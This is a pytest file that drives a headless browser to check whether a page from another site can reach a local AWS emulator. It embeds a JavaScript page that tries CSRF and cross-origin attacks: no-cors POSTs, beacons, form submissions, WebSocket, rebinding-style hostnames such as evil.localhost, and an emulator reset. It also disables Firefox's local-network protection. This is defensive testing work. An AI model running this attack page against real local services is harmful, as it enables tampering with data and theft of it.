"""A real browser shows a page of another site, which tries what it can. test_pages.py has the same without a browser.

It needs Firefox or Chromium on PATH (Debian's `firefox-esr` and `chromium` will do), or where AVFLOW_BROWSER says. The
page reports to its own server, so no driver is needed.
"""

import json
import os
import queue
import shutil
import subprocess
import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

BROWSER = os.environ.get("AVFLOW_BROWSER") or next(
    filter(None, map(shutil.which, ("firefox-esr", "firefox", "chromium", "google-chrome"))), None
)
pytestmark = [pytest.mark.slow, pytest.mark.skipif(BROWSER is None, reason="no Firefox or Chromium is on PATH")]
#: seconds that a browser has to start, and its page to try everything
SECONDS = 120

#: what the page does; each attempt says what it has read, and the page reports all to its own server
PAGE = """<!doctype html><title>another site</title><body><script type="module">
const [url, bucket] = ARGUMENTS;
const said = {}, jsonType = {'Content-Type': 'application/x-amz-json-1.0'};
const attempt = async (name, act) => { try { said[name] = await act() } catch (error) { said[name] = 'refused' } };
const text = async (path, options) =>
  (await (await fetch(url + path, {signal: AbortSignal.timeout(5000), ...options})).text());
const within = (seconds, act) =>
  new Promise(resolve => { act(resolve); setTimeout(resolve, seconds * 1000, 'nothing') });
const create = JSON.stringify({name: 'evil', roleArn: 'arn:aws:iam::123456789012:role/r',
  definition: '{"StartAt": "A", "States": {"A": {"Type": "Pass", "End": true}}}'});
const target = {...jsonType, 'X-Amz-Target': 'AWSStepFunctions.CreateStateMachine'};
await attempt('fetch', () => text('/', {method: 'POST', headers: target, body: create}));
await attempt('read', () => text(`/${bucket}/secret`));
await attempt('delete', () => text(`/${bucket}/secret`, {method: 'DELETE'}));
await attempt('put', () => text(`/${bucket}/evil`, {method: 'PUT', body: 'x'}));
await attempt('credentials', () => text(`/${bucket}`, {credentials: 'include'}));
await attempt('no referrer', () => text(`/${bucket}`, {referrerPolicy: 'no-referrer'}));
await attempt('moto', () => text('/moto-api/data.json'));
const form = new URLSearchParams({Action: 'CreateQueue', QueueName: 'evil'});
for (const [name, body] of [['text', create], ['form', form], ['blob', new Blob([create])],
                            ['multipart', new FormData()]])
  await attempt('no-cors ' + name, () => text(`/${bucket}?delete`, {method: 'POST', mode: 'no-cors', body}));
await attempt('reset', () => text('/moto-api/reset', {method: 'POST', mode: 'no-cors'}));
await attempt('beacon', async () => { navigator.sendBeacon(url + `/${bucket}/beacon`, create); return '' });
for (const [tag, key] of [['img', 'src'], ['script', 'src'], ['video', 'src'], ['iframe', 'src'], ['link', 'href']])
  await attempt(tag, () => within(3, resolve => {
    const element = document.createElement(tag);
    if (tag === 'link') element.rel = 'stylesheet';
    element.onload = () => resolve(tag === 'iframe' ? '' : 'loaded'); element.onerror = () => resolve('refused');
    element[key] = url + `/${bucket}/picture.png`; document.body.append(element);
  }));
for (const kind of ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain'])
  await attempt('form ' + kind, () => within(3, resolve => {
    const frame = document.createElement('iframe'), form = document.createElement('form');
    frame.name = kind; document.body.append(frame);
    Object.assign(form, {method: 'POST', action: url + '/', enctype: kind, target: kind});
    form.innerHTML = '<input name="Action" value="CreateQueue"><input name="QueueName" value="evil">';
    document.body.append(form); frame.onload = () => resolve(''); form.submit();
  }));
await attempt('websocket', () => within(3, resolve => {
  const socket = new WebSocket(url.replace('http', 'ws') + '/');
  socket.onopen = () => resolve('open'); socket.onerror = () => resolve('refused');
}));
await attempt('events', () => within(3, resolve => {
  const source = new EventSource(url + `/${bucket}`);
  source.onopen = () => resolve('open'); source.onerror = () => { source.close(); resolve('refused') };
}));
await fetch('/said', {method: 'POST', body: JSON.stringify(said)});
</script>
"""
#: Firefox without its own pages, requests and protection
PREFERENCES = {
    "network.lna.enabled": False,  # it asks the user before a page may call this machine
    "network.lna.blocking": False,
    "dom.security.https_first": False,
    "network.proxy.type": 0,
    "browser.shell.checkDefaultBrowser": False,
    "browser.aboutwelcome.enabled": False,
    "datareporting.policy.dataSubmissionEnabled": False,
    "toolkit.telemetry.reportingpolicy.firstRun": False,
    "app.update.enabled": False,
}


class Site(BaseHTTPRequestHandler):
    """Another site: its page, and what that says. It also is a server that answers every page, as ours must not."""

    def do_GET(self):
        self.server.asked.append((self.command, self.path, self.headers.get("Host")))
        body = self.server.page.encode() if self.path == "/" else b"secret content"
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Access-Control-Allow-Methods", "*")
        self.send_header("Access-Control-Allow-Headers", "*")
        self.send_header("Content-Type", "text/html" if self.path == "/" else "text/plain")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        if self.path == "/said":
            self.server.said.put(json.loads(body))
        self.do_GET()

    do_OPTIONS = do_DELETE = do_GET
    do_PUT = do_POST

    def log_message(self, *_):
        pass


@contextmanager
def served(page=""):
    server = ThreadingHTTPServer(("127.0.0.1", 0), Site)
    server.page, server.said, server.asked = page, queue.Queue(), []
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()


def command(profile, url):
    if "firefox" in Path(BROWSER).name:
        lines = [f"user_pref({json.dumps(name)}, {json.dumps(value)});" for name, value in PREFERENCES.items()]
        (profile / "user.js").write_text("\n".join(lines))
        return [BROWSER, "--headless", "--no-remote", "--profile", str(profile), url]
    own = f"--user-data-dir={profile}"
    return [BROWSER, "--headless", "--no-sandbox", "--no-first-run", "--no-proxy-server", own, url]


def visit(profile, url, bucket):
    """What a page of another site has read from the server at `url`."""
    page = PAGE.replace("ARGUMENTS", json.dumps([url, bucket]))
    profile.mkdir()
    environment = os.environ | {"HOME": str(profile), "MOZ_CRASHREPORTER_DISABLE": "1"}
    with served(page) as site:
        address = f"http://127.0.0.1:{site.server_port}/"
        browser = subprocess.Popen(
            command(profile, address), env=environment, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
        )
        try:
            return site.said.get(timeout=SECONDS)
        except queue.Empty:
            pytest.fail(f"{BROWSER} reported nothing within {SECONDS} s; the page was asked for: {site.asked}")
        finally:
            browser.terminate()
            browser.wait(30)


@pytest.fixture
def guarded(bench):
    """What a page might change is as before after the test."""
    s3, sqs, bucket = bench.aws.client("s3"), bench.aws.client("sqs"), bench.outputs["Bucket"]
    s3.put_object(Bucket=bucket, Key="secret", Body=b"secret content")
    s3.put_object(Bucket=bucket, Key="picture.png", Body=b"not a picture", ContentType="image/png")

    def state():
        keys = {item["Key"]: item["ETag"] for item in s3.list_objects_v2(Bucket=bucket)["Contents"]}
        machines = {machine["name"] for machine in bench.states.list_state_machines()["stateMachines"]}
        return keys, machines, set(sqs.list_queues().get("QueueUrls", [])), len(s3.list_buckets()["Buckets"])

    before = state()
    yield bucket
    assert state() == before


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost", "evil.localhost", "127.0.0.1.nip.localhost"])
def test_a_page_of_another_site_gets_nothing(bench, guarded, tmp_path, name):
    """The last two stand for names that an attacker lets lead to this machine: browsers resolve `*.localhost` so."""
    said = visit(tmp_path / "profile", bench.aws.url.replace("127.0.0.1", name), guarded)
    assert len(said) == 23
    assert {name: text for name, text in said.items() if text not in ("refused", "", "nothing")} == {}


def test_the_attempts_reach_a_server_that_does_not_refuse_them(tmp_path):
    """So the browser itself is not what stops them."""
    with served() as server:
        said = visit(tmp_path / "profile", f"http://evil.localhost:{server.server_port}", "bucket")
    assert {said[name] for name in ("read", "delete", "put", "moto", "no referrer")} == {"secret content"}
    asked = {(method, path) for method, path, host in server.asked if host == f"evil.localhost:{server.server_port}"}
    assert {("POST", "/"), ("DELETE", "/bucket/secret"), ("POST", "/bucket?delete"), ("GET", "/bucket/picture.png"),
            ("POST", "/moto-api/reset"), ("POST", "/bucket/beacon")} <= asked  # fmt: skip
